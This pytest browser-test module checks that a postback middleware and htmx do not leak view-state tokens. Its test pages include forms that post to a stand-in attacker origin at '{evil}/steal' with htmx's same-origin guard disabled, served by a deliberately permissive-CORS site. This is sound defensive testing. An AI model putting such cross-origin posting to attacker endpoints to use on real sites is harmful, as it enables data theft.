"""htmx (the real one, from npm) and fetch() through the middleware, in Chromium.

Each page comes from a small inner app wrapped in :class:`postback_middleware.PostbackMiddleware`
and served by waitress, with htmx 2 loaded from ``/static/htmx.min.js``. The test clicks what a
person would click; htmx sends the request (``HX-Request``, the form's fields, the inserted ones
too) where the page says, and the inner app records what reached it: the verified event
(``environ["postback.event"]``) and the fields, which no longer hold any reserved one (the
middleware verified and stripped them). The cases of issue #15, point 4: a form with ``hx-post``
and no action; an ``hx-post`` button in a form whose action is elsewhere; a form fragment loaded
by ``hx-get`` then posted (relative to the page) and that fragment's markup (no second script
tag, no duplicate ids); ``data-hx-post``; an htmx form's ``formaction`` button; a ``fetch()``
caller posting where the form's ``data-postback-action`` says. And the hostile one: with htmx's
``selfRequestsOnly`` turned off, a form whose ``hx-post`` goes to another origin sends no tokens
there.

htmx comes from the npm registry, pinned by version and by the tarball's ``dist.integrity``
(SHA-512), downloaded once into ``tests/browser/artifacts/`` (ignored by git) and checked on
every run. Without network the suite is skipped, except under ``CI=true``, where that fails.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import tarfile
import threading
import time
import urllib.request
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl

import pytest

from postback_middleware import PostbackMiddleware

from ..helpers import new_key
from .assertions import expect

pytestmark = pytest.mark.browser

HTMX_VERSION = "2.0.11"  # the current htmx 2 (npm: htmx.org)
HTMX_TARBALL = f"https://registry.npmjs.org/htmx.org/-/htmx.org-{HTMX_VERSION}.tgz"
# dist.integrity of https://registry.npmjs.org/htmx.org/2.0.11
HTMX_INTEGRITY = ("sha512-Thx/WtpeOQqSrqBCw/A1cwGJGg4UrVa3+sW0GmrM3p4gJgO89ecH4qtbnyzDDWFvBTqj"
                  "nIMCgELTNt636dtamA==")
HTMX_CACHE = Path(__file__).resolve().parent / "artifacts" / f"htmx.org-{HTMX_VERSION}.tgz"

RESERVED = ("__EVENTTARGET", "__EVENTARGUMENT", "__VIEWSTATE", "__EVENTVALIDATION")
TOKENS = ("__VIEWSTATE", "__EVENTVALIDATION")


def _unavailable(reason: str) -> None:
    """Skip, or fail under CI=true (as the browser fixtures do)."""
    if os.environ.get("CI", "").lower() == "true":
        pytest.fail(f"the htmx tests cannot run under CI=true: {reason}", pytrace=False)
    pytest.skip(reason)


def _integrity(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode("ascii")


@pytest.fixture(scope="session")
def htmx_js() -> bytes:
    """``package/dist/htmx.min.js`` of the pinned tarball, its integrity checked."""
    if HTMX_CACHE.is_file() and _integrity(HTMX_CACHE.read_bytes()) == HTMX_INTEGRITY:
        tarball = HTMX_CACHE.read_bytes()
    else:
        try:
            with urllib.request.urlopen(HTMX_TARBALL, timeout=60) as response:
                tarball = response.read()
        except OSError as error:
            _unavailable(f"cannot download htmx {HTMX_VERSION} from the npm registry: {error}")
        found = _integrity(tarball)
        if found != HTMX_INTEGRITY:  # never skipped: a wrong or tampered download
            pytest.fail(f"{HTMX_TARBALL} has integrity {found}, not the pinned {HTMX_INTEGRITY}",
                        pytrace=False)
        HTMX_CACHE.parent.mkdir(parents=True, exist_ok=True)
        partial = HTMX_CACHE.with_suffix(".part")
        partial.write_bytes(tarball)
        partial.replace(HTMX_CACHE)
    with tarfile.open(fileobj=io.BytesIO(tarball), mode="r:gz") as archive:
        member = archive.extractfile("package/dist/htmx.min.js")
        assert member is not None
        return member.read()


# --------------------------------------------------------------------------------------------
# The inner app

HEAD = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>t</title>{meta}'
        '<script src="/static/htmx.min.js"></script></head><body>')
NOTE = '<input name="note" value="kept">'
OUT = '<div id="out"></div>'

# path -> body HTML (inside <body>); "{evil}" is the other origin
PAGES: dict[str, str] = {
    # (a) the form's own hx-post, no action
    "/a": '<form method="post" hx-post="/h1" hx-target="#out">' + NOTE +
          '<button id="go" data-postback="save" data-postback-argument="1">Save</button>'
          "</form>" + OUT,
    # (b) an hx-post button in a form whose action is elsewhere; hx-vals names its event
    "/b": '<form method="post" action="/other">' + NOTE +
          '<button id="go" hx-post="/h2" hx-target="#out" data-postback="go" '
          """data-postback-argument="2" hx-vals='{"__EVENTTARGET": "go", """
          """"__EVENTARGUMENT": "2"}'>Go</button></form>""" + OUT,
    # (c, d) a page that loads a form fragment with hx-get; the fragment posts "save",
    # relative to the page: /c/pages/save (not /c/fragments/save)
    "/c/pages/main": '<form method="post"><a href="#" id="main" data-postback="main">Main</a>'
                     '</form><button id="load" hx-get="/c/fragments/form" hx-target="#slot">'
                     'Load</button><div id="slot"></div>',
    "/c/fragments/form": '<form method="post" hx-post="save" hx-target="#out">' + NOTE +
                         '<button id="fsave" data-postback="frag" data-postback-argument="3">'
                         "Save</button></form>" + OUT,
    # (e) the data-hx-* spelling
    "/e": '<form method="post" data-hx-post="/e1" data-hx-target="#out">' + NOTE +
          '<button id="go" data-postback="save" data-postback-argument="5">Save</button>'
          "</form>" + OUT,
    # (f) htmx sends an hx-post form's submission where its submit button's formaction says
    "/f": '<form method="post" hx-post="/f1" hx-target="#out">' + NOTE +
          '<button id="go" formaction="/f1?via=button" name="via" value="button" '
          'data-postback="save" data-postback-argument="6">Save</button></form>' + OUT,
    # (g) a fetch() caller: the form's tokens are bound where its data-postback-action says
    "/g": '<form id="gform" method="post" data-postback-action="/api/save">' + NOTE +
          '<span hidden data-postback="save" data-postback-argument="7"></span></form>',
    # (hostile) htmx allowed to leave the origin; the form's hx-post goes to the other one
    "/evil": '<form method="post" hx-post="{evil}/steal" hx-target="#out">' + NOTE +
             '<button id="go">Go</button></form>' + OUT,
    # A </form> before the end of a <div> opened in the form leaves the div, and the button
    # in it, in the form (htmx's closest("form") finds it), where the markup reads as after
    # the form's end: the middleware wrote the form's tokens, and the client script leaves
    # them out of an htmx request that would put them in a URL or send them away.
    # Other verbs from inside a post form, nested as written: the middleware refuses
    # reserved fields in a URL and in any body but a POST's, so the client script leaves them
    # out of such a request (a DELETE would also put the tokens in its URL: the middleware
    # withholds those of its form); the request reaches the app with the form's own fields.
    "/delete-in-a-form": '<form method="post" action="/comment">' + NOTE +
                         '<button id="go" hx-delete="/items/4" hx-target="#out">Delete</button>'
                         "</form>" + OUT,
    "/put-in-a-form": '<form method="post" action="/comment">' + NOTE +
                      '<button id="go" hx-put="/items/5" hx-target="#out">Save</button>'
                      "</form>" + OUT,
    "/misnested-delete": '<form method="post" action="/comment">' + NOTE + "<div></form>"
                         '<button id="go" hx-delete="/items/3" hx-target="#out">Delete</button>'
                         "</div>" + OUT,
    "/misnested-away": '<form method="post" action="/comment">' + NOTE + "<div></form>"
                       '<button id="go" hx-post="{evil}/steal" hx-target="#out">Go</button>'
                       "</div>" + OUT,
}
_AWAY = """<meta name="htmx-config" content='{"selfRequestsOnly": false}'>"""
META = {"/evil": _AWAY, "/misnested-away": _AWAY}


@dataclass
class Received:
    method: str
    path: str
    query: str
    event: tuple[str, str] | None
    fields: dict[str, str]
    htmx: bool  # sent by htmx (HX-Request)


@dataclass
class Site:
    """The inner app (or, with ``evil``, the other origin): pages, htmx, and a record."""

    htmx_js: bytes = b""
    evil: bool = False
    other_origin: str = ""
    seen: list[Received] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def __call__(self, environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
        method, path = environ["REQUEST_METHOD"], environ.get("PATH_INFO", "")
        cors = [("Access-Control-Allow-Origin", environ.get("HTTP_ORIGIN", "*")),
                ("Access-Control-Allow-Methods", "GET, POST"),
                ("Access-Control-Allow-Headers",
                 environ.get("HTTP_ACCESS_CONTROL_REQUEST_HEADERS", "*"))] if self.evil else []
        if method == "OPTIONS":  # (the other origin lets anything in, as an attacker would)
            start_response("204 No Content", cors)
            return []
        if path == "/static/htmx.min.js":
            start_response("200 OK", [("Content-Type", "text/javascript; charset=utf-8"),
                                      ("Content-Length", str(len(self.htmx_js)))])
            return [self.htmx_js]
        length = int(environ.get("CONTENT_LENGTH") or 0)
        body = environ["wsgi.input"].read(length).decode("utf-8") if length else ""
        content_type = environ.get("CONTENT_TYPE", "")
        fields = (dict(parse_qsl(body, keep_blank_values=True))
                  if "urlencoded" in content_type else {"(body)": body} if body else {})
        event = environ.get("postback.event")
        with self.lock:
            self.seen.append(Received(
                method, path, environ.get("QUERY_STRING", ""),
                None if event is None else (event.target, event.argument), fields,
                environ.get("HTTP_HX_REQUEST") == "true"))
        if method == "GET" and path in PAGES:
            html = (HEAD.format(meta=META.get(path, "")) +
                    PAGES[path].replace("{evil}", self.other_origin) + "</body></html>")
            if environ.get("HTTP_HX_REQUEST") == "true":
                html = PAGES[path]  # (a fragment, as an htmx-aware view answers)
        else:
            shown = "none" if event is None else f"{event.target}|{event.argument}"
            html = f'<p id="answer">{method} {path} {shown}</p>'
        data = html.encode()
        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8"),
                                  ("Content-Length", str(len(data))), *cors])
        return [data]

    def wait_for(self, method: str, path: str, timeout: float = 10.0) -> Received:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                for received in self.seen:
                    if (received.method, received.path) == (method, path):
                        return received
            time.sleep(0.02)
        raise AssertionError(f"no {method} {path} arrived; got {self.seen}")


Servers = tuple[Site, str, Site, str]


@pytest.fixture(scope="module")
def servers(serve: Any, htmx_js: bytes) -> Iterator[Servers]:
    """(the app's record, its URL, the other origin's record, its URL)."""
    site, evil = Site(htmx_js=htmx_js), Site(evil=True)
    with serve(PostbackMiddleware(site, secret_keys=[new_key()])) as url, serve(evil) as evil_url:
        site.other_origin = evil_url
        yield site, url, evil, evil_url


@pytest.fixture
def sites(servers: Servers) -> tuple[Site, Site]:
    for site in (servers[0], servers[2]):
        with site.lock:
            site.seen.clear()
    return servers[0], servers[2]


def open_page(page: Any, servers: Servers, path: str) -> str:
    """Load ``path`` with htmx and the client script running; its HTML as it was sent."""
    response = page.goto(servers[1] + path)
    assert response.status == 200
    page.wait_for_function("typeof htmx === 'object' && typeof __doPostBack === 'function'")
    return str(response.text())


def verified(site: Site, path: str, event: tuple[str, str]) -> Received:
    """The request htmx sent, as the inner app got it: verified (its event), stripped."""
    received = site.wait_for("POST", path)
    assert received.htmx
    assert received.event == event
    assert received.fields["note"] == "kept"
    assert not set(RESERVED) & set(received.fields)  # the middleware took them out
    return received


# --------------------------------------------------------------------------------------------
# The cases


@pytest.mark.parametrize(
    ("path", "posts_to", "event"),
    [
        pytest.param("/a", "/h1", ("save", "1"), id="a-form-hx-post-without-action"),
        pytest.param("/b", "/h2", ("go", "2"), id="b-hx-post-button-in-a-form-posting-elsewhere"),
        pytest.param("/e", "/e1", ("save", "5"), id="e-data-hx-post"),
        pytest.param("/f", "/f1", ("save", "6"), id="f-htmx-formaction-button"),
    ],
)
def test_htmx_posts_back_where_the_page_says(
    browser_page: Any, servers: Servers, sites: tuple[Site, Site],
    path: str, posts_to: str, event: tuple[str, str],
) -> None:
    site = sites[0]
    markup = open_page(browser_page, servers, path)
    assert all(f'name="{token}"' in markup for token in TOKENS)
    browser_page.click("#go")
    expect(browser_page.locator("#answer")).to_have_text(f"POST {posts_to} {event[0]}|{event[1]}")
    received = verified(site, posts_to, event)
    if path == "/f":
        assert received.query == "via=button"  # (htmx used the button's formaction)
        assert received.fields["via"] == "button"
    assert not [r for r in site.seen if r.method == "POST" and r.path != posts_to]


def test_a_fragment_loaded_by_hx_get_posts_back_relative_to_the_page(
    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
) -> None:
    """(c) and (d): the fragment's form posts to /c/pages/save, and the page holds one
    script tag and one element of each reserved id after the swap."""
    site, page = sites[0], browser_page
    open_page(page, servers, "/c/pages/main")
    with page.expect_response(lambda r: r.url.endswith("/c/fragments/form")) as answer:
        page.click("#load")
    fragment = answer.value.text()
    assert "__VIEWSTATE" in fragment
    assert "<script" not in fragment and ' id="__' not in fragment
    expect(page.locator("#fsave")).to_be_visible()
    counts = page.evaluate("""() => ({
        viewstateIds: document.querySelectorAll('[id="__VIEWSTATE"]').length,
        validationIds: document.querySelectorAll('[id="__EVENTVALIDATION"]').length,
        targetIds: document.querySelectorAll('[id="__EVENTTARGET"]').length,
        viewstates: document.querySelectorAll('input[name="__VIEWSTATE"]').length,
        scripts: [...document.scripts].filter(s => /postback\\.[0-9a-f]+\\.js/.test(s.src)).length,
    })""")
    assert counts == {"viewstateIds": 1, "validationIds": 1, "targetIds": 1, "viewstates": 2,
                      "scripts": 1}
    page.click("#fsave")
    expect(page.locator("#answer")).to_have_text("POST /c/pages/save frag|3")
    verified(site, "/c/pages/save", ("frag", "3"))
    # the page's own form still posts back (its ids, its tokens), after the swap
    page.click("#main")
    page.wait_for_url("**/c/pages/main")
    received = site.wait_for("POST", "/c/pages/main")
    assert received.event == ("main", "")


def test_fetch_posts_back_where_data_postback_action_says(
    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
) -> None:
    """(g) a script that sends the form's fields with fetch() to another path of the site."""
    site, page = sites[0], browser_page
    open_page(page, servers, "/g")
    send = """async (where) => {
        const data = new FormData(document.getElementById("gform"));
        data.set("__EVENTTARGET", "save"); data.set("__EVENTARGUMENT", "7");
        const response = await fetch(where, {method: "POST", body: new URLSearchParams(data)});
        return [response.status, await response.text()];
    }"""
    status, text = page.evaluate(send, "/api/save")
    assert (status, text) == (200, '<p id="answer">POST /api/save save|7</p>')
    received = site.wait_for("POST", "/api/save")
    assert received.event == ("save", "7")
    assert received.fields == {"note": "kept"}
    status, _ = page.evaluate(send, "/elsewhere")  # a path the page never posts to
    assert status == 403
    assert not [r for r in site.seen if r.method == "POST" and r.path == "/elsewhere"]


def test_no_tokens_go_to_another_origin_by_htmx(
    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
) -> None:
    """htmx told it may leave the origin (selfRequestsOnly off): the form's hx-post to the
    other origin is sent, with the form's own field and no token."""
    site, evil = sites
    evil_url, page = servers[3], browser_page
    markup = open_page(page, servers, "/evil")
    assert 'name="__EVENTTARGET"' in markup
    assert not any(f'name="{token}"' in markup for token in TOKENS)
    with page.expect_request(lambda r: r.url.startswith(evil_url) and r.method == "POST") as sent:
        page.click("#go")
    body = dict(parse_qsl(sent.value.post_data or "", keep_blank_values=True))
    assert body["note"] == "kept"
    assert not set(TOKENS) & set(body)
    received = evil.wait_for("POST", "/steal")
    assert received.fields["note"] == "kept"
    assert not set(TOKENS) & set(received.fields)
    assert not any(token in json.dumps(received.fields) for token in TOKENS)
    assert not [r for r in site.seen if r.method == "POST"]


@pytest.mark.parametrize(
    ("path", "deletes", "tokens_written"),
    [
        # its form gets no tokens (a DELETE would put them in its URL); it still holds the
        # other reserved fields
        pytest.param("/delete-in-a-form", "/items/4", False, id="in-a-post-form"),
        # it reads as no htmx form's: its form got tokens, htmx takes them (closest("form"))
        pytest.param("/misnested-delete", "/items/3", True, id="after-a-misnested-form-end"),
    ],
)
def test_an_htmx_delete_sends_no_reserved_field_in_its_url(
    browser_page: Any, servers: Servers, sites: tuple[Site, Site],
    path: str, deletes: str, tokens_written: bool,
) -> None:
    """The button's DELETE carries its form's fields in its URL (htmx 2): the client script
    leaves the reserved ones out, so the request reaches the app (the middleware refuses
    them in a URL) and no token is in a URL (logs, history)."""
    site, page = sites[0], browser_page
    markup = open_page(page, servers, path)
    assert 'name="__EVENTTARGET"' in markup
    assert [f'name="{token}"' in markup for token in TOKENS] == [tokens_written] * len(TOKENS)
    with page.expect_request(lambda r: r.method == "DELETE") as sent:
        page.click("#go")
    assert "note=kept" in sent.value.url  # (the form's fields did go: htmx took the form)
    assert not any(name in sent.value.url for name in RESERVED)
    expect(page.locator("#answer")).to_have_text(f"DELETE {deletes} none")
    received = site.wait_for("DELETE", deletes)
    assert dict(parse_qsl(received.query)) == {"note": "kept"}


def test_an_htmx_put_in_a_post_form_reaches_the_app(
    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
) -> None:
    """The form keeps its tokens (its own postbacks need them); its PUT goes without the
    reserved fields, so the middleware lets it through, the form's own field in its body."""
    site, page = sites[0], browser_page
    markup = open_page(page, servers, "/put-in-a-form")
    assert all(f'name="{token}"' in markup for token in TOKENS)
    page.click("#go")
    expect(page.locator("#answer")).to_have_text("PUT /items/5 none")
    received = site.wait_for("PUT", "/items/5")
    assert received.fields == {"note": "kept"}


def test_an_htmx_request_after_a_misnested_form_end_sends_no_tokens_away(
    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
) -> None:
    """htmx told it may leave the origin: the button's hx-post to the other origin takes the
    form's fields (it is in the form), without the tokens."""
    site, evil = sites
    evil_url, page = servers[3], browser_page
    markup = open_page(page, servers, "/misnested-away")
    assert all(f'name="{token}"' in markup for token in TOKENS)
    with page.expect_request(lambda r: r.url.startswith(evil_url) and r.method == "POST") as sent:
        page.click("#go")
    body = dict(parse_qsl(sent.value.post_data or "", keep_blank_values=True))
    assert body["note"] == "kept"
    assert not set(RESERVED) & set(body)
    received = evil.wait_for("POST", "/steal")
    assert not any(token in json.dumps(received.fields) for token in TOKENS)
    assert not [r for r in site.seen if r.method == "POST"]
